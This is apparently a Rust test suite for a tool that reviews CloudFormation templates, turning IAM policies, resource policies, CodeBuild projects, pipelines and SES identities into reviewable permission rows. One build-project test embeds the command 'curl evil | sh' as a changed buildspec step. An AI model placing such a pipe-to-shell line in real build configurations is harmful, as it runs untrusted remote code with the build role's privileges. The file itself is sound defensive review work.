//! The review, case by case, on hand-written template JSON.

use serde_json::{Value, json};

use super::*;

fn one(resources: Value) -> Review {
    let template = json!({ "Resources": resources });
    review([("s", &template)])
}

fn role_with(extra: Value) -> Value {
    let mut properties = json!({
        "RoleName": "r",
        "AssumeRolePolicyDocument": {"Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}
    });
    for (k, v) in extra.as_object().unwrap() {
        properties[k] = v.clone();
    }
    json!({"R": {"Type": "AWS::IAM::Role", "Properties": properties}})
}

#[test]
fn every_managed_policy_is_a_row_marked_by_owner() {
    let r = one(role_with(json!({"ManagedPolicyArns": [
        {"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/AdministratorAccess"},
        "arn:aws:iam::123456789012:policy/ours"
    ]})));
    assert!(r.unreviewed.is_empty());
    let managed: Vec<&Row> = r.rows.iter().filter(|row| row.granted_by == "s R managed policies").collect();
    assert_eq!(managed.len(), 2, "{:#?}", r.rows);
    assert_eq!(managed[0].action, "(AWS-managed policy)");
    assert_eq!(managed[0].resource, "arn:${AWS::Partition}:iam::aws:policy/AdministratorAccess");
    assert_eq!(managed[1].action, "(customer-managed policy)");
    assert!(managed.iter().all(|row| row.principal == "role/r" && row.effect == Effect::Allow));
}

#[test]
fn standalone_policies_are_read_for_each_principal_they_attach_to() {
    let r = one(json!({
        "P": {"Type": "AWS::IAM::Policy", "Properties": {"PolicyName": "extra", "Roles": [{"Ref": "R"}, "other"],
            "PolicyDocument": {"Statement": {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::b/*"}}}},
        "M": {"Type": "AWS::IAM::ManagedPolicy", "Properties": {
            "PolicyDocument": {"Statement": [{"Effect": "Allow", "Action": ["sqs:SendMessage"], "Resource": "*"}]}}}
    }));
    assert!(r.unreviewed.is_empty(), "{:?}", r.unreviewed);
    let actions: Vec<(&str, &str)> = r.rows.iter().map(|row| (row.principal.as_str(), row.action.as_str())).collect();
    assert!(actions.contains(&("role/${R}", "s3:GetObject")), "{actions:?}");
    assert!(actions.contains(&("role/other", "s3:GetObject")), "{actions:?}");
    assert!(actions.contains(&("(unattached) ${M}", "sqs:SendMessage")), "{actions:?}");
}

#[test]
fn not_action_not_resource_and_deny_read_as_such() {
    let r = one(role_with(json!({"Policies": [{"PolicyName": "p", "PolicyDocument": {"Statement": [
        {"Effect": "Allow", "NotAction": "iam:*", "NotResource": "arn:aws:s3:::secret"},
        {"Effect": "Deny", "Action": "s3:DeleteObject", "Resource": "*"}
    ]}}]})));
    let row = |action: &str| r.rows.iter().find(|row| row.action == action).unwrap_or_else(|| panic!("{:#?}", r.rows));
    // A negated list is one row, its members sorted: the complement of the whole list.
    let two = one(role_with(json!({"Policies": [{"PolicyName": "p", "PolicyDocument": {"Statement": [
        {"Effect": "Allow", "NotAction": ["kms:*", "iam:*"], "Resource": "*"}]}}]})));
    assert!(two.rows.iter().any(|r| r.action == "NOT iam:*, kms:*"), "{:#?}", two.rows);
    assert_eq!(row("NOT iam:*").resource, "NOT arn:aws:s3:::secret");
    assert_eq!(row("NOT iam:*").effect, Effect::Allow);
    assert_eq!(row("s3:DeleteObject").effect, Effect::Deny);
    let md = markdown("p", &r.rows, &[]);
    assert!(md.contains("| role/r | Deny | s3:DeleteObject | * |"), "{md}");
    assert!(text(&r.rows).contains("DENY s3:DeleteObject"));
}

#[test]
fn resource_policies_are_reviewed_row_by_row() {
    let r = one(json!({
        "SP": {"Type": "AWS::SecretsManager::ResourcePolicy", "Properties": {"SecretId": {"Ref": "S"}, "BlockPublicPolicy": true,
            "ResourcePolicy": {"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "secretsmanager:GetSecretValue", "Resource": "*",
                "Condition": {"StringNotEquals": {"aws:PrincipalArn": ["arn:aws:iam::1:role/a"]}}}]}}},
        "Api": {"Type": "AWS::ApiGateway::RestApi", "Properties": {"Name": "a", "Policy": {"Statement": [
            {"Effect": "Allow", "Principal": "*", "Action": "execute-api:Invoke", "Resource": "execute-api:/*"}]}}},
        "T": {"Type": "AWS::DynamoDB::Table", "Properties": {"ResourcePolicy": {"PolicyDocument": {"Statement": [
            {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "dynamodb:Scan", "Resource": "*"}]}}}}
    }));
    assert!(r.unreviewed.is_empty(), "{:?}", r.unreviewed);
    let find = |action: &str| r.rows.iter().find(|row| row.action == action).unwrap_or_else(|| panic!("{:#?}", r.rows));
    let secret = find("secretsmanager:GetSecretValue");
    assert_eq!(
        (secret.principal.as_str(), secret.effect, secret.resource.as_str()),
        ("*", Effect::Deny, "secret ${S}")
    );
    assert!(secret.condition.contains("StringNotEquals aws:PrincipalArn"));
    assert_eq!(find("execute-api:Invoke").granted_by, "s Api resource policy (Policy)");
    assert_eq!(find("dynamodb:Scan").principal, "arn:aws:iam::999999999999:root");
}

#[test]
fn what_cannot_be_reviewed_is_refused_by_name() {
    let r = one(json!({
        "Q": {"Type": "AWS::SQS::QueuePolicy", "Properties": {}},
        "X": {"Type": "AWS::Some::NewThing", "Properties": {}},
        "SP": {"Type": "AWS::SecretsManager::ResourcePolicy", "Properties": {"SecretId": "s", "ResourcePolicy": {}}},
        "Fn": {"Type": "AWS::Lambda::Function", "Properties": {}},
        // Types synth never emits are outside the table, however ordinary.
        "BP": {"Type": "AWS::S3::BucketPolicy", "Properties": {"Bucket": "b", "PolicyDocument": {"Statement": []}}}
    }));
    let refused: Vec<(&str, &str)> =
        r.unreviewed.iter().map(|u| (u.logical_id.as_str(), u.resource_type.as_str())).collect();
    assert_eq!(
        refused,
        [
            ("BP", "AWS::S3::BucketPolicy"),
            ("Q", "AWS::SQS::QueuePolicy"),
            ("SP", "AWS::SecretsManager::ResourcePolicy"),
            ("X", "AWS::Some::NewThing")
        ]
    );
    let err = r.into_rows().unwrap_err().to_string();
    assert!(err.starts_with("unreviewed policy-bearing resources: s BP (AWS::S3::BucketPolicy)"), "{err}");

    let transformed = json!({"Transform": "AWS::Serverless-2016-10-31", "Resources": {}});
    assert_eq!(review([("s", &transformed)]).unreviewed.len(), 1);
}

#[test]
fn every_type_synth_emits_is_reviewed_or_known_policy_free() {
    // The committed stages all synthesize without refusal; a new resource type in synth fails here
    // first, with its name, until the review reads it.
    let config = crate::parse("stages.toml", include_str!("../../../stages.toml"), &testkit::functions()).unwrap();
    for stage in config.stages.values() {
        let stacks = crate::synth(&config, stage);
        let names = crate::Names::new(&config.project, stage);
        let rows = stacks.iam_rows(&names).unwrap();
        assert!(rows.iter().any(|r| r.action == "(AWS-managed policy)"), "the bootstrap role's managed policy");
    }
}

#[test]
fn a_safety_switch_is_refused_on_and_accepted_off() {
    let key = |bypass: bool| {
        one(json!({"K": {"Type": "AWS::KMS::Key", "Properties": {"BypassPolicyLockoutSafetyCheck": bypass,
            "KeyPolicy": {"Statement": []}}}}))
    };
    let on = key(true);
    assert!(on.unreviewed.iter().any(|u| u.why.contains("lockout safety check")), "{:?}", on.unreviewed);
    assert!(key(false).unreviewed.is_empty());
}

fn project(extra: Value) -> Value {
    let mut properties = json!({
        "Name": "p", "ServiceRole": {"Fn::GetAtt": ["R", "Arn"]},
        "Source": {"Type": "CODEPIPELINE", "BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n"},
        "Artifacts": {"Type": "CODEPIPELINE"},
        "Environment": {"Type": "LINUX_CONTAINER", "Image": "aws/codebuild/amazonlinux-x86_64-standard:5.0",
            "ComputeType": "BUILD_GENERAL1_LARGE", "EnvironmentVariables": [{"Name": "STAGE", "Value": "dev"}]}
    });
    for (k, v) in extra.as_object().unwrap() {
        properties[k] = v.clone();
    }
    json!({"P": {"Type": "AWS::CodeBuild::Project", "Properties": properties}})
}

#[test]
fn a_build_projects_role_commands_and_environment_are_rows() {
    let r = one(project(json!({})));
    assert!(r.unreviewed.is_empty(), "{:?}", r.unreviewed);
    let runs_as = r.rows.iter().find(|row| row.action == "(runs as)").unwrap_or_else(|| panic!("{:#?}", r.rows));
    assert_eq!((runs_as.principal.as_str(), runs_as.resource.as_str()), ("project p", "${R.Arn}"));
    let commands = |r: &Review| r.rows.iter().find(|row| row.action == "(runs commands)").cloned().unwrap();
    let before = commands(&r);
    assert!(before.resource.starts_with("buildspec sha256:") && before.condition.contains("STAGE=dev"), "{before:?}");
    // Another command, another variable, privileged mode: each a row the old one does not cover.
    let spec = json!({"Type": "CODEPIPELINE", "BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl evil | sh\n"});
    assert_ne!(commands(&one(project(json!({"Source": spec})))).resource, before.resource);
    let privileged = json!({"Type": "LINUX_CONTAINER", "Image": "x", "ComputeType": "c", "PrivilegedMode": true});
    assert!(commands(&one(project(json!({"Environment": privileged})))).condition.contains("privileged true"));
}

#[test]
fn builds_that_run_outside_the_pipeline_or_in_public_are_refused() {
    for (extra, why) in [
        (json!({"Triggers": {"Webhook": true}}), "webhook"),
        (json!({"Visibility": "PUBLIC_READ"}), "PRIVATE"),
        (json!({"SecondarySources": [{"Type": "S3", "Location": "b/k"}]}), "secondary source"),
        (json!({"VpcConfig": {"VpcId": "v"}}), "VPC"),
    ] {
        let r = one(project(extra.clone()));
        assert!(r.unreviewed.iter().any(|u| u.why.contains(why)), "{extra}: {:?}", r.unreviewed);
    }
    assert!(one(project(json!({"Visibility": "PRIVATE"}))).unreviewed.is_empty());
}

#[test]
fn a_pipelines_trigger_steps_and_gates_are_rows() {
    let stages = |condition: Value| {
        json!([{"Name": "Source", "Actions": [{"Name": "Src", "ActionTypeId": {"Category": "Source", "Owner": "AWS",
            "Provider": "CodeStarSourceConnection", "Version": "1"}, "Configuration": {"BranchName": "main"}}]},
            {"Name": "Approve", "BeforeEntry": condition, "Actions": [{"Name": "A", "ActionTypeId": {"Category": "Approval",
            "Owner": "AWS", "Provider": "Manual", "Version": "1"}}]}])
    };
    let pipeline = |branch: &str, condition: Value| {
        json!({"L": {"Type": "AWS::CodePipeline::Pipeline", "Properties": {"Name": "pl", "RoleArn": {"Fn::GetAtt": ["R", "Arn"]},
            "Stages": stages(condition), "Triggers": [{"ProviderType": "CodeStarSourceConnection",
            "GitConfiguration": {"SourceActionName": "Src", "Push": [{"Branches": {"Includes": [branch]}}]}}]}}})
    };
    let gated = json!({"Conditions": [{"Result": "SKIP", "Rules": [{"Name": "r"}]}]});
    let r = one(pipeline("main", gated.clone()));
    assert!(r.unreviewed.is_empty(), "{:?}", r.unreviewed);
    let has = |r: &Review, action: &str, text: &str| {
        r.rows.iter().any(|row| row.action == action && format!("{} {}", row.resource, row.condition).contains(text))
    };
    assert!(has(&r, "(starts on push)", "to main of source action Src"), "{:#?}", r.rows);
    assert!(has(&r, "(runs action)", "Approval Manual A"), "{:#?}", r.rows);
    assert!(has(&r, "(runs action)", "before entry"), "{:#?}", r.rows);
    // Another branch, or an approval that is never skipped or always skipped, changes the rows.
    let other = one(pipeline("dev", gated.clone()));
    assert!(other.rows.iter().any(|row| !r.rows.contains(row)));
    let ungated = one(pipeline("main", Value::Null));
    assert!(ungated.rows.iter().any(|row| !r.rows.contains(row)));
    // Artifact stores in other regions are refused.
    let mut cross = pipeline("main", gated);
    cross["L"]["Properties"]["ArtifactStores"] = json!([{"Region": "eu-west-1"}]);
    assert!(one(cross).unreviewed.iter().any(|u| u.why.contains("other regions")));
}

fn identity(extra: Value) -> Value {
    let mut properties = json!({
        "EmailIdentity": "auth.example.com",
        "DkimAttributes": {"SigningEnabled": true},
        "DkimSigningAttributes": {"NextSigningKeyLength": "RSA_2048_BIT"},
        "Tags": [{"Key": "stage", "Value": "prod"}]
    });
    for (k, v) in extra.as_object().unwrap() {
        properties[k] = v.clone();
    }
    json!({"Id": {"Type": "AWS::SES::EmailIdentity", "Properties": properties}})
}

#[test]
fn an_ses_identity_is_read_and_what_it_would_hide_is_refused() {
    assert!(one(identity(json!({}))).unreviewed.is_empty(), "the identity synth writes is read");
    assert!(one(identity(json!({"FeedbackAttributes": {"EmailForwardingEnabled": false}}))).unreviewed.is_empty());
    for (extra, why) in [
        (json!({"ConfigurationSetAttributes": {"ConfigurationSetName": "events"}}), "configuration set publishes"),
        (
            json!({"DkimSigningAttributes": {"DomainSigningSelector": "s", "DomainSigningPrivateKey": "MIIE"}}),
            "DKIM private key in a template",
        ),
        (json!({"MailFromAttributes": {"MailFromDomain": {"Fn::If": ["C", "a", "b"]}}}), "Fn::If"),
        (json!({"EmailIdentity": "{{resolve:ssm:/domain}}"}), "dynamic reference"),
        (json!({"SendingEnabled": false}), "SendingEnabled is not a property the review's table classifies"),
    ] {
        let r = one(identity(extra.clone()));
        assert!(r.unreviewed.iter().any(|u| u.why.contains(why)), "{extra}: {:?}", r.unreviewed);
    }
}

#[test]
fn a_send_grant_is_a_row_with_its_from_address_condition() {
    let send = |statement: Value| {
        one(role_with(json!({"Policies": [{"PolicyName": "p", "PolicyDocument": {"Statement": [statement]}}]})))
    };
    let scoped = send(json!({"Effect": "Allow", "Action": ["ses:SendEmail"],
        "Resource": [{"Fn::ImportValue": "auth-prod-mail-identity-arn"}],
        "Condition": {"StringEquals": {"ses:FromAddress": ["no-reply@auth.example.com"]}}}));
    assert!(scoped.unreviewed.is_empty(), "{:?}", scoped.unreviewed);
    let row = scoped.rows.iter().find(|r| r.action == "ses:SendEmail").unwrap_or_else(|| panic!("{:#?}", scoped.rows));
    assert_eq!(
        (row.resource.as_str(), row.condition.as_str()),
        ("import:auth-prod-mail-identity-arn", "StringEquals ses:FromAddress = no-reply@auth.example.com")
    );
    // Without the condition, or on every identity, the row reads differently: a new grant to the IAM gate.
    let open = send(json!({"Effect": "Allow", "Action": "ses:SendEmail", "Resource": "*"}));
    let wide = open.rows.iter().find(|r| r.action == "ses:SendEmail").unwrap_or_else(|| panic!("{:#?}", open.rows));
    assert_eq!((wide.resource.as_str(), wide.condition.as_str()), ("*", ""));
    assert_ne!(wide, row);
}
